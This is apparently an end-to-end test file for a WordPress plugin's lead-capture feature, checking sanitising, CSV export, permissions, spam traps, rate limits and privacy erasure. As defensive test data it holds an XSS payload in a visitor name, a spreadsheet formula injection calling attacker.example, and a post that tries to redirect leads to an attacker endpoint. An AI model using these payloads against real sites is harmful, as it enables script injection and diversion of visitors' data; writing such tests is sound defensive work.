// Leads in the real WordPress of the plugin's tests (tests/e2e/wordpress.mjs runs these
// on its site): the administrator switches capture on; a visitor sends a lead through an
// Editor's page with the shortcode; the lead is kept (with the command-line tool's figures
// and its consent record) although this closed network has no mail server, and the
// failure is shown; the Leads screen, one lead's page and the CSV show markup as text and
// neutralise a formula; an Editor is refused by the screen, the route and the export; a
// honeypot or a too-fast submission is not kept; the rate limit holds; retention deletes
// an old lead; the eraser removes a visitor's leads; uninstall keeps or deletes them as
// set.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { assert, check, cliFor, close } from "./harness.mjs";
import { DESKTOP, PHONE } from "./browser.mjs";

const TAG = "customer-value-calculator";
const ROUTE = "/wp-json/customer-value-calculator/v1/leads";
const HOSTILE_NAME = "<b id=\"bold\">דנה</b> <img src=x onerror=window.cvcHacked=1> כהן";
const FORMULA = "=HYPERLINK(\"http://attacker.example\",\"click\")";

/** A lead as the calculator sends it, for posting straight to the route. */
const direct = (overrides = {}) => ({
  version: 1,
  contact: { name: "Bot", email: "bot@example.com", phone: null, message: "" },
  // The plugin's own English wording (the settings set only the Hebrew).
  consent: { text: "I agree that this site keeps the details and figures I send, and contacts me about them.", language: "en", at: new Date().toISOString(), page: "http://x/", marketing: false, marketing_text: "" },
  scenario: { currency: "ILS", lifetime_profit: 45000 },
  results: { npv_gain: 1 },
  link: "http://x/",
  attribution: { referrer: "", variant: null },
  elapsed_ms: 10000,
  ...overrides,
});

export async function leads({ browser, site, wp, admin, editor, visit, screens }) {
  const post = (body) => fetch(`${site}${ROUTE}`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });

  await check("WordPress leads: the administrator switches capture on, with a Hebrew consent text of their own", async () => {
    const { page } = admin;
    await page.goto(`${site}/wp-admin/options-general.php?page=customer-value-calculator`);
    await page.check("#cvc-leads-enabled");
    await page.fill("#cvc-leads-consent_he", "אני מאשר/ת ליועצת לשמור את הפרטים ולחזור אליי.");
    await page.fill("#cvc-leads-notify", "consultant@example.com");
    await Promise.all([page.waitForURL(/settings-updated=true/), page.click("#submit")]);
    const saved = wp("option", { name: "customer_value_calculator_leads" }).value;
    assert(saved.enabled === true && saved.notify === "consultant@example.com" && saved.consent_he.startsWith("אני מאשר/ת"), JSON.stringify(saved));
    await page.screenshot({ path: join(screens, "settings-leads-en.png"), fullPage: true });
  });

  const scenario = { lifetime_profit: 45000 };
  let kept;
  await check("WordPress leads: a visitor sends a lead through an Editor's page with the shortcode; it is kept with the tool's figures and its consent record, and the failed email is recorded", async () => {
    const page3 = wp("post", { as: "edna", title: "Talk to us", content: `[customer_value lang="he" lifetime_profit="45000" lead="1" variant="W"]` });
    const html = await (await fetch(page3.link)).text();
    assert(html.includes(`lead-endpoint="${site}${ROUTE}"`) || html.includes(`lead-endpoint="${site}/?rest_route=`), html.match(new RegExp(`<${TAG}[^>]*>`))?.[0]);
    const visitor = await visit(browser, `${page3.link}${page3.link.includes("?") ? "&" : "?"}utm_source=wp&utm_medium=email`, { viewport: PHONE, locale: "he-IL" });
    const { page, problems } = visitor;
    await page.locator(`${TAG} .lead-slot`).waitFor({ state: "attached", timeout: 30000 });
    await page.locator(`${TAG} .privacy`).scrollIntoViewIfNeeded();
    await page.locator(`${TAG} .lead-form h2`).waitFor({ timeout: 30000 });
    const consent = (await page.locator(`${TAG} .lead-consent label`).first().textContent()).trim();
    assert(consent === "אני מאשר/ת ליועצת לשמור את הפרטים ולחזור אליי.", consent);
    await page.fill(`${TAG} #lead-name`, HOSTILE_NAME);
    await page.fill(`${TAG} #lead-reach`, "dana@example.co.il");
    await page.fill(`${TAG} #lead-message`, FORMULA);
    await page.check(`${TAG} #lead-consent`);
    await page.screenshot({ path: join(screens, "lead-form-he-phone.png"), fullPage: false });
    await page.click(`${TAG} #lead-send`);
    await page.locator(`${TAG} .lead-status.delivered`).waitFor({ timeout: 20000 });
    assert(problems.length === 0, problems.join("\n"));
    await visitor.context.close();
    const rows = wp("leads");
    assert(rows.length === 1, `${rows.length} leads kept`);
    kept = rows[0];
    const expected = cliFor(scenario);
    assert(close(Number(kept.npv_gain), expected.npv_gain) && close(Number(kept.yearly_cost), expected.yearly_cost_of_poor_service), `${kept.npv_gain} against ${expected.npv_gain}`);
    assert(kept.name.includes("דנה") && !kept.name.includes("<") && kept.email === "dana@example.co.il" && kept.message === FORMULA, JSON.stringify(kept));
    assert(kept.consent_text === consent && kept.consent_language === "he" && kept.consent_page.startsWith(page3.link.split("?")[0]), JSON.stringify(kept));
    const attribution = JSON.parse(kept.attribution);
    assert(attribution.utm_source === "wp" && attribution.utm_medium === "email" && kept.variant === "W", kept.attribution);
    assert(kept.mail_status === "failed" && kept.mail_error.length > 0, `mail: ${kept.mail_status} ${kept.mail_error}`);
  });

  await check("WordPress leads: an Editor without unfiltered_html cannot put a container with its own lead endpoint in a post", () => {
    const hostile = wp("post", { as: "edna", title: "A container", content: `<div data-customer-value data-lead-endpoint="https://attacker.example/c" data-lead-consent='anything' data-variant=x>Calculator</div>` });
    assert(!/data-(customer-value|lead-|variant)/.test(hostile.content), hostile.content);
    assert(hostile.content.includes("Calculator"), "the rest of the post is kept");
  });

  await check("WordPress leads: the Leads screen lists the lead with markup as text, says the email failed, and its page shows the figures, the consent record and a link to its scenario", async () => {
    const { page } = admin;
    await page.goto(`${site}/wp-admin/admin.php?page=customer-value-calculator-leads`);
    await page.waitForSelector(".wp-list-table");
    const failed = await page.textContent(".cvc-mail-failed");
    assert(failed.includes("could not be emailed"), failed);
    // WordPress's sanitising keeps the name's words and drops its markup.
    const cell = await page.textContent(".wp-list-table tbody .column-name");
    assert(cell.includes("דנה") && cell.includes("כהן") && !cell.includes("<"), `the name: ${cell}`);
    assert((await page.$("#bold")) === null && (await page.evaluate(() => window.cvcHacked)) === undefined, "no markup from the visitor");
    await page.screenshot({ path: join(screens, "leads-en.png"), fullPage: true });
    await page.click(".wp-list-table tbody .column-name strong a");
    await page.waitForSelector(".cvc-figures");
    const gain = Number(await page.getAttribute(".cvc-figures td[data-name=npv_gain]", "data-value"));
    assert(close(gain, cliFor(scenario).npv_gain), `the lead's page: ${gain}`);
    const record = await page.textContent(".cvc-consent");
    assert(record.includes("אני מאשר/ת ליועצת") && record.includes("he"), record);
    const link = await page.getAttribute("#cvc-open-scenario", "href");
    assert(link.includes("lifetime_profit=45000"), link);
    assert((await page.$("#bold")) === null, "no markup on the lead's page");
    await page.screenshot({ path: join(screens, "lead-en.png"), fullPage: true });
  });

  await check("WordPress leads: the Leads screen and a lead's page in Hebrew", async () => {
    wp("locale", { login: "admin", locale: "he_IL" });
    const { page } = admin;
    await page.goto(`${site}/wp-admin/admin.php?page=customer-value-calculator-leads`);
    assert((await page.textContent("h1")).includes("לידים מהמחשבון"), await page.textContent("h1"));
    await page.screenshot({ path: join(screens, "leads-he.png"), fullPage: true });
    await page.goto(`${site}/wp-admin/admin.php?page=customer-value-calculator-leads&lead=${kept.id}`);
    assert((await page.textContent(".cvc-lead")).includes("התרחיש שהזינו"), "the lead's page in Hebrew");
    await page.screenshot({ path: join(screens, "lead-he.png"), fullPage: true });
    wp("locale", { login: "admin", locale: "" });
  });

  await check("WordPress leads: the CSV opens in Excel in Hebrew (UTF-8 with a byte-order mark), with markup as text and the formula neutralised", async () => {
    const { page } = admin;
    await page.goto(`${site}/wp-admin/admin.php?page=customer-value-calculator-leads`);
    const [download] = await Promise.all([page.waitForEvent("download"), page.click("#cvc-export-leads")]);
    const bytes = readFileSync(await download.path());
    assert(bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf, "a byte-order mark");
    const text = bytes.toString("utf8");
    assert(text.includes("דנה") && !text.includes("<b") && !text.includes("onerror"), "the name without markup");
    assert(text.includes(`"'=HYPERLINK(`), `the formula neutralised: ${text.split("\n")[1]}`);
    assert(!/(^|,)"?=HYPERLINK/m.test(text), "no cell starts with =");
  });

  await check("WordPress leads: an Editor is refused by the Leads screen, the route and the export", async () => {
    const { page } = editor;
    const screen = await page.goto(`${site}/wp-admin/admin.php?page=customer-value-calculator-leads`);
    assert(screen.status() === 403 || (await page.textContent("body")).includes("not allowed"), `the screen: ${screen.status()}`);
    const answer = await page.evaluate(async (route) => {
      const nonce = await (await fetch("/wp-admin/admin-ajax.php?action=rest-nonce")).text();
      const response = await fetch(route, { headers: { "X-WP-Nonce": nonce } });
      return { status: response.status, body: await response.text() };
    }, ROUTE);
    assert(answer.status === 403 && !answer.body.includes("dana@"), `the route: ${answer.status} ${answer.body.slice(0, 80)}`);
    const exportUrl = await admin.page.getAttribute("#cvc-export-leads", "href");
    const exported = await page.goto(exportUrl);
    const body = await exported.text();
    assert(exported.status() === 403 && !body.includes("dana@"), `the export: ${exported.status()}`);
    const asAdmin = await admin.page.evaluate(async (route) => {
      const nonce = await (await fetch("/wp-admin/admin-ajax.php?action=rest-nonce")).text();
      return (await fetch(route, { headers: { "X-WP-Nonce": nonce } })).status;
    }, ROUTE);
    assert(asAdmin === 200, `the administrator reads the route: ${asAdmin}`);
  });

  await check("WordPress leads: a honeypot or a too-fast submission is not kept, a bad one is refused with its reason, and the rate limit holds", async () => {
    const before = wp("leads").length;
    const trap = await post({ ...direct(), website: "http://spam.example" });
    const fast = await post(direct({ elapsed_ms: 400 }));
    // Answered as a kept lead is, so a bot learns nothing.
    assert(trap.status === 201 && fast.status === 201, `${trap.status} ${fast.status}`);
    assert(wp("leads").length === before, "neither was kept");
    const bad = await post(direct({ contact: { name: "X", email: "not-an-address", phone: null, message: "" } }));
    assert(bad.status === 422 && (await bad.json()).error.includes("contact.email"), `a bad address: ${bad.status}`);
    // A consent this site never showed is not a consent: refused, before the limit counts it.
    const forged = await post(direct({ consent: { ...direct().consent, text: "I agree to anything" } }));
    assert(forged.status === 422 && (await forged.json()).error.includes("consent.text"), `a forged consent: ${forged.status}`);
    const huge = await fetch(`${site}${ROUTE}`, { method: "POST", headers: { "content-type": "application/json" }, body: `{"version":1,"x":"${"a".repeat(70000)}"}` });
    assert(huge.status === 413, `a huge lead: ${huge.status}`);
    // The same lead sent again (the calculator gave up waiting for the first answer, and
    // the visitor pressed "Try again"): the same id, kept and mailed once, answered alike.
    const twice = direct({ id: "0123456789abcdef0123456789abcdef", contact: { name: "Twice", email: "twice@example.com", phone: null, message: "" } });
    const answers = [await post(twice), await post(twice)];
    assert(answers.every((answer) => answer.status === 201), answers.map((answer) => answer.status).join(" "));
    const copies = wp("leads").filter((row) => row.email === "twice@example.com").length;
    assert(copies === 1, `${copies} copies kept`);
    // Refused requests cost nothing: junk cannot use up the hour and lock real visitors out.
    for (let i = 0; i < 8; i += 1) assert((await post(direct({ contact: { name: "", email: "", phone: null, message: "" } }))).status === 422, "junk is refused");
    // Only kept leads count; five an hour are allowed from one visitor.
    const statuses = [];
    for (let i = 0; i < 6; i += 1) statuses.push((await post(direct({ contact: { name: `Bot ${i}`, email: `bot${i}@example.com`, phone: null, message: "" } }))).status);
    assert(statuses[0] === 201 && statuses.includes(429) && statuses.filter((status) => status === 201).length <= 5, statuses.join(" "));
    const limited = await post(direct());
    assert(limited.status === 429 && (await limited.json()).error.includes("Too many"), `after the limit: ${limited.status}`);
  });

  await check("WordPress leads: twelve leads sent at once from one visitor (PHP's four workers in parallel): five are kept, the rest refused, as one at a time", async () => {
    wp("forget_lead_limits");
    const before = wp("leads").length;
    const statuses = await Promise.all(Array.from({ length: 12 }, (_, i) => post(direct({ contact: { name: `Rush ${i}`, email: `rush${i}@example.com`, phone: null, message: "" } })).then((answer) => answer.status)));
    const kept = wp("leads").length - before;
    assert(statuses.filter((status) => status === 201).length === 5 && statuses.filter((status) => status === 429).length === 7, statuses.join(" "));
    assert(kept === 5, `${kept} kept`);
    wp("forget_lead_limits");
  });

  await check("WordPress leads: retention deletes a lead older than the kept period, and the privacy tools export and erase a visitor's leads", () => {
    const rows = wp("leads");
    const oldest = rows.at(-1);
    wp("age_lead", { id: Number(oldest.id), days: 400 });
    const pruned = wp("prune");
    assert(pruned.deleted === 1, JSON.stringify(pruned));
    assert(!wp("leads").some((row) => row.id === oldest.id), "the old lead is gone");
    const newest = wp("leads")[0];
    const exported = wp("export", { email: newest.email });
    assert(exported.data.length >= 1 && exported.done, JSON.stringify(exported).slice(0, 200));
    const erased = wp("erase", { email: newest.email });
    assert(erased.items_removed === true, JSON.stringify(erased));
    assert(!wp("leads").some((row) => row.email === newest.email), "the visitor's leads are gone");
  });

  await check("WordPress leads: uninstalling keeps the leads unless the settings ask, then deletes them", () => {
    const keeping = wp("uninstall");
    assert(keeping.leads_table === true, "kept by default");
    const leadsOption = wp("option", { name: "customer_value_calculator_leads" }).value;
    wp("set_option", { name: "customer_value_calculator_leads", value: { ...leadsOption, delete_on_uninstall: true } });
    const deleting = wp("uninstall");
    assert(deleting.leads_table === false, "deleted when asked");
  });
}
